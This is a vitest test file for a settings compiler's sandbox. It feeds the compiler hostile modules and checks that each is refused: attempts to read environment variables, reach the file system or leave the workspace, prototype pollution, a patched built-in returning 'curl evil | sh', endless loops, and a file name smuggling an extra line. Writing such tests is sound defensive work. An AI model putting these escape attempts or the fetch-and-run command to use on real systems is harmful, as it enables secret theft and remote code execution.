// Settings run hermetically: their own frozen realm, no process, no built-ins, no packages, no
// clock, imports only inside the workspace, console captured, limits that end in located errors,
// and values that cannot be read reported at their settings path. Each case is a hostile or broken
// module that once reached Carbon or hung it.
import { describe, expect, it } from 'vitest';
import { compileSettings } from '../../src/compile/resolved-settings.ts';
import { formatPath, type Diagnostic } from '../../src/diagnostics.ts';
import { makeWorkspace } from '../helpers/workspace.ts';

const REPOSITORIES = "[{ id: 'Api', name: 'Api', local: { git: 'github.com/acme/api.git' } }]";
const project = (name = "'Acme'") => `{ id: 'acme', name: ${name}, repositories: ${REPOSITORIES} }`;

async function compile(files: Record<string, string>, env: NodeJS.ProcessEnv = {}) {
  const root = makeWorkspace(files);
  return { root, ...(await compileSettings(root, env)) };
}

const summary = (diagnostics: Diagnostic[]) =>
  diagnostics.map(
    (d) =>
      `${d.origin.file.replace(/.*\/(projects\/|lib\/|carbon\.config)/, '$1')}:${d.position?.line ?? '-'} ${d.code} ${formatPath(d.origin.path)}`,
  );

describe('what settings cannot reach', () => {
  it.each([
    ['process.env', "process.env['HOME']", "'process' is not defined"],
    ['process.cwd()', 'process.cwd()', "'process' is not defined"],
    [
      "process.getBuiltinModule('fs')",
      "process.getBuiltinModule('fs')",
      "'process' is not defined",
    ],
    ['process.exit(0) in a helper', "require('./_exit').leave()", "'process' is not defined"],
    ['globalThis.process', 'globalThis.process.env', "cannot read property 'env' of undefined"],
    ['the clock', 'Date.now()', 'settings cannot use Date.now()'],
    ['the current date', 'new Date().toISOString()', 'settings cannot use the current time'],
    ['randomness', 'Math.random()', 'settings cannot use Math.random()'],
  ])('%s: a located error, not a value', async (_name, expression, message) => {
    const { diagnostics, workspace } = await compile({
      'projects/acme.ts': `export const acme = ${project(`String(${expression})`)};\n`,
      'projects/_exit.ts': 'export const leave = () => process.exit(0);\n',
    });
    expect(workspace).toBeUndefined();
    const thrown = diagnostics.find((d) => d.code === 'module-threw');
    expect(thrown?.message).toContain(message);
    expect(thrown?.position?.line).toBe(1);
  });

  it.each([
    ["import { readFileSync } from 'node:fs';", 'readFileSync', 'is a Node.js built-in module'],
    ["import * as os from 'os';", 'os', 'is a Node.js built-in module'],
    ["import { join } from 'node:path';", 'join', 'is a Node.js built-in module'],
    ["import { createRequire } from 'module';", 'createRequire', 'is a Node.js built-in module'],
    [
      "import { owners } from 'acme-data';",
      'owners',
      "import only 'carbon' and other settings files",
    ],
    ["import { secret } from '../../outside';", 'secret', 'it leaves the workspace'],
    [
      "import data from './_data.yaml';",
      'data',
      'settings files are TypeScript, JavaScript or JSON',
    ],
  ])('%s is refused, at the import', async (line, binding, message) => {
    const { diagnostics } = await compile({
      'projects/acme.ts': `${line}\nexport const acme = ${project(`typeof ${binding}`)};\n`,
      'projects/_data.yaml': 'a: 1\n',
      'node_modules/acme-data/index.js': "exports.owners = ['acme'];\n",
    });
    expect(summary(diagnostics)).toEqual(['projects/acme.ts:1 module-threw ']);
    expect(diagnostics[0]!.message).toContain(message);
  });

  it('keeps patched built-ins and globals within the module that made them', async () => {
    const { diagnostics, workspace } = await compile({
      'projects/a.ts': `String.prototype.replaceAll = () => 'curl evil | sh';\n(Object.prototype as any).polluted = true;\nexport const a = ${project("'x'.replaceAll('x', 'y')")};\n`,
      'projects/b.ts': `export const b = ${project("'x'.replaceAll('x', 'y') + String(({} as any).polluted)").replace("'acme'", "'b'")};\n`,
      'projects/c.ts': `(globalThis as any).shared = 'from c';\nexport const c = ${project().replace("'acme'", "'c'")};\n`,
      'projects/d.ts': `export const d = ${project('String((globalThis as any).shared)').replace("'acme'", "'d'")};\n`,
    });
    expect(diagnostics).toEqual([]);
    // Each module has its own built-ins: a's patch is a's alone, and Carbon's are untouched.
    expect(workspace?.projects.map((p) => p.name)).toEqual([
      'curl evil | sh',
      'yundefined',
      'Acme',
      'undefined',
    ]);
    expect('x'.replaceAll('x', 'y')).toBe('y');
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  });

  it('gives every project module its own instance of the helpers it imports', async () => {
    const { diagnostics, workspace } = await compile({
      'projects/_shared.ts': 'export const names: string[] = [];\n',
      'projects/a.ts': `import { names } from './_shared';\nnames.push('a');\nexport const a = ${project('names.join()').replace("'acme'", "'a'")};\n`,
      'projects/b.ts': `import { names } from './_shared';\nnames.push('b');\nexport const b = ${project('names.join()').replace("'acme'", "'b'")};\n`,
    });
    expect(diagnostics).toEqual([]);
    expect(workspace?.projects.map((p) => p.name)).toEqual(['a', 'b']);
  });
});

describe('what settings may do, through declared doors', () => {
  it('reads a declared environment variable with env(), and refuses an undeclared one', async () => {
    const files = {
      'carbon.config.ts': "export default { env: ['ACME_NAME'] };\n",
      'projects/acme.ts': `import { env } from 'carbon';\nexport const acme = ${project("env('ACME_NAME')!")};\n`,
      'projects/other.ts': `import { env } from 'carbon';\nexport const other = ${project("env('HOME')!").replace("'acme'", "'other'")};\n`,
    };
    const { diagnostics, workspace } = await compile(files, {
      ACME_NAME: 'Acme Inc.',
      HOME: '/root',
    });
    expect(summary(diagnostics)).toEqual(['projects/other.ts:2 module-threw ']);
    expect(diagnostics[0]!.message).toContain(
      'env("HOME") is not declared: list "HOME" in env in carbon.config.ts',
    );
    expect(workspace).toBeUndefined();
  });

  it('shows what settings print on the console, with the module, and never in the values', async () => {
    const { console, diagnostics } = await compile({
      'projects/_log.ts': "export const note = (text: string) => console.warn('note:', text);\n",
      'projects/acme.ts': `import { note } from './_log';\nconsole.log('loading', { id: 1 });\nnote('hello');\nexport const acme = ${project()};\n`,
    });
    expect(diagnostics).toEqual([]);
    expect(console).toEqual([
      { level: 'log', file: 'projects/acme.ts', text: 'loading {"id":1}' },
      { level: 'warn', file: 'projects/_log.ts', text: 'note: hello' },
    ]);
  });
});

describe('settings that cannot be read', () => {
  it('stops an endless loop with a located error', async () => {
    const { diagnostics } = await compile(
      { 'projects/acme.ts': `while (true) {}\nexport const acme = ${project()};\n` },
      { CARBON_SETTINGS_TIMEOUT: '0.3' },
    );
    expect(summary(diagnostics)).toEqual(['projects/acme.ts:1 settings-timeout ']);
    expect(diagnostics[0]!.message).toContain('took longer than 0.3 s');
  });

  it('compiles the modules after one stopped at its time limit', async () => {
    const { diagnostics, projects } = await compile(
      {
        'projects/a.ts': `while (true) {}\nexport const a = ${project()};\n`,
        'projects/b.ts': `export const b = { ...${project().replace("'acme'", "'b'")} };\n`,
        'projects/c.ts': `export const c = { ...${project().replace("'acme'", "'c'")} };\n`,
      },
      { CARBON_SETTINGS_TIMEOUT: '0.3' },
    );
    expect(summary(diagnostics)).toEqual(['projects/a.ts:1 settings-timeout ']);
    expect(projects.map((p) => p.id)).toEqual(['b', 'c']);
  });

  it('stops an endless loop in a getter read while taking the values', async () => {
    const { diagnostics } = await compile(
      {
        'projects/acme.ts': `export const acme = { id: 'acme', get name() { for (;;) {} }, repositories: ${REPOSITORIES} };\n`,
      },
      { CARBON_SETTINGS_TIMEOUT: '0.3' },
    );
    expect(summary(diagnostics)).toEqual(['projects/acme.ts:1 settings-timeout ']);
  });

  it.each([
    [
      'a getter that throws',
      `{ id: 'acme', get name(): string { throw new Error('no name yet'); }, repositories: ${REPOSITORIES} }`,
      'name',
      'reading it threw: no name yet',
    ],
    [
      'a proxy whose traps throw',
      `new Proxy({}, { ownKeys() { throw new Error('trap'); } })`,
      '',
      'reading it threw: trap',
    ],
    [
      'a value nested 200 levels deep',
      `{ id: 'acme', name: 'A', repositories: ${REPOSITORIES}, deep: JSON.parse('['.repeat(200) + ']'.repeat(200)) }`,
      'deep[0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0][0]',
      'is nested deeper than 64 levels',
    ],
    [
      'a cycle',
      `(() => { const a: any = { id: 'acme', name: 'A', repositories: ${REPOSITORIES} }; a.self = a; return a; })()`,
      'self',
      'refers to itself (a cycle)',
    ],
    [
      'a Map where an object belongs',
      `{ id: 'acme', name: 'A', repositories: ${REPOSITORIES}, aws: new Map() }`,
      'aws',
      'is a Map, not plain data',
    ],
  ])('%s: reported at its settings path', async (_name, value, path, message) => {
    const { diagnostics } = await compile({
      'projects/acme.ts': `export const acme = ${value};\n`,
    });
    const found = diagnostics.find((d) => d.code === 'unreadable-value');
    expect(found, JSON.stringify(summary(diagnostics))).toBeDefined();
    expect(formatPath(found!.origin.path)).toBe(path);
    expect(found!.message).toContain(message);
  });

  it('refuses a module that is not UTF-8, at the first byte that is not', async () => {
    const root = makeWorkspace({});
    const { writeFileSync, mkdirSync } = await import('node:fs');
    mkdirSync(`${root}/projects`);
    writeFileSync(
      `${root}/projects/acme.ts`,
      Buffer.concat([
        Buffer.from(`export const acme = { id: 'acme',\n  name: 'Caf`),
        Buffer.from([0xe9]),
        Buffer.from(`', repositories: ${REPOSITORIES} };\n`),
      ]),
    );
    const { diagnostics } = await compileSettings(root, {});
    expect(summary(diagnostics)).toEqual(['projects/acme.ts:2 unreadable-file ']);
    expect(diagnostics[0]!.message).toContain('is not UTF-8');
    expect(diagnostics[0]!.position).toEqual({ line: 2, column: 13 });
  });
});

describe('module files that are not modules', () => {
  it('refuses a file name with a line break, skips editor lock files, and names a folder', async () => {
    const root = makeWorkspace({
      [`projects/t\nsetup: true\n#.ts`]: `export const t = ${project()};\n`,
    });
    const { mkdirSync, symlinkSync } = await import('node:fs');
    mkdirSync(`${root}/projects/folder.ts`);
    symlinkSync(`${root}/projects/missing.ts`, `${root}/projects/.#acme.ts`);
    const { diagnostics } = await compileSettings(root, {});
    expect(diagnostics.map((d) => d.code)).toEqual(['unsafe-file-name', 'not-a-module']);
    expect(diagnostics.map((d) => d.message).join('\n')).toContain(
      'projects/folder.ts is a folder, not a settings module',
    );
  });
});
